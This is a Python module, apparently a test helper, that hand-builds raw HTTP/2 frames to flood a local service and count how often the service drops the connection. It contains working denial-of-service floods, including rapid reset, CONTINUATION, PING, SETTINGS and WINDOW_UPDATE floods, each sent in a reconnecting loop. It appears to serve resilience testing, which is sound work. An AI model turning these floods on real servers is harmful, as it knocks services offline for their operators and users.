"""Hostile HTTP/2 clients, made of raw frames. A flooding client connects again when the service has closed its
connection."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager

from hpack import Encoder, NeverIndexedHeaderTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PAUSE_S = 0.05
"""Seconds between the end of a flooding connection and the next one."""


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def setting(code: int, value: int) -> bytes:
    return code.to_bytes(2, "big") + value.to_bytes(4, "big")


def begun(**settings: int) -> bytes:
    """The beginning of a connection. Settings: `window` is the first window of each stream."""
    values = b"".join(setting({"window": 4, "table": 1}[name], value) for name, value in settings.items())
    return PREFACE + frame(SETTINGS, values)


def fields(method: str, path: str, **headers: str) -> bytes:
    """A head that leaves nothing in the table of the receiver."""
    found = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    found += [(name.replace("_", "-"), value) for name, value in headers.items()]
    return bytes(Encoder().encode([NeverIndexedHeaderTuple(*each) for each in found], huffman=False))


def request(stream: int, method: str, path: str, body: bytes = b"", **headers: str) -> bytes:
    if not body:
        return frame(HEADERS, fields(method, path, **headers), END_STREAM | END_HEADERS, stream)
    head = fields(method, path, content_type="application/json", content_length=str(len(body)), **headers)
    return frame(HEADERS, head, END_HEADERS, stream) + frame(DATA, body, END_STREAM, stream)


def frames(raw: socket.socket) -> Iterator[tuple[int, int, int, bytes]]:
    """The frames that come: kind, flags, stream, payload. Ends with the connection."""
    buffer = b""
    while True:
        while len(buffer) >= 9 and len(buffer) >= (end := 9 + int.from_bytes(buffer[:3], "big")):
            yield buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big"), buffer[9:end]
            buffer = buffer[end:]
        try:
            data = raw.recv(1 << 16)
        except OSError:
            return  # reset, or closed in another thread
        if not data:
            return
        buffer += data


@contextmanager
def connected(port: int, *, receive: int = 0) -> Iterator[socket.socket]:
    raw = socket.socket()
    if receive:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    raw.settimeout(20)
    with closing(raw):
        raw.connect(("127.0.0.1", port))
        yield raw


_OPEN = frame(HEADERS, fields("POST", "/v0/topics/a", content_type="application/json"), END_HEADERS, 1)
_MANY_SETTINGS = b"".join(setting(0x1000 + each, 1) for each in range(40))


def resets(round_: int) -> bytes:
    """Requests that are reset at once."""
    head = fields("GET", "/v0/health")
    first = 1 + 2 * 500 * round_
    return b"".join(
        frame(HEADERS, head, END_STREAM | END_HEADERS, each) + frame(RST_STREAM, b"\0\0\0\x08", 0, each)
        for each in range(first, first + 1000, 2)
    )


def resets_of_nothing(_: int) -> bytes:
    return frame(RST_STREAM, b"\0\0\0\x08", 0, 1) * 1000


def same(first: bytes, again: bytes) -> Callable[[int], bytes]:
    return lambda round_: again * 1000 if round_ else first + again * 1000


FLOODS: dict[str, Callable[[int], bytes]] = {
    "priority": same(b"", frame(PRIORITY, b"\0\0\0\0\x10", 0, 1)),
    "unknown": same(b"", frame(0x42, b"x" * 8)),
    "ping": same(b"", frame(PING, b"12345678")),
    "settings": same(b"", frame(SETTINGS, setting(3, 100))),
    "new settings": same(b"", frame(SETTINGS, _MANY_SETTINGS)),
    "window": same(b"", frame(WINDOW_UPDATE, b"\0\0\0\x01")),
    "empty data": same(_OPEN, frame(DATA, b"", 0, 1)),
    "continuation": same(frame(HEADERS, fields("GET", "/v0/health"), 0, 1), frame(CONTINUATION, b"", 0, 1)),
    "rapid reset": resets,
}


def flood(port: int, kind: str, until_: float) -> int:
    """Flood on one connection at a time; return how many the service has closed."""
    ended = 0
    while time.monotonic() < until_:
        try:
            with connected(port) as raw:
                raw.settimeout(2)
                reader = threading.Thread(target=lambda raw=raw: list(frames(raw)), daemon=True)
                reader.start()
                raw.sendall(begun())
                for round_ in range(1 << 20):
                    if time.monotonic() > until_:
                        return ended
                    raw.sendall(FLOODS[kind](round_))
        except TimeoutError:
            continue  # the service does not read any more
        except OSError:
            ended += 1
            time.sleep(PAUSE_S)
    return ended
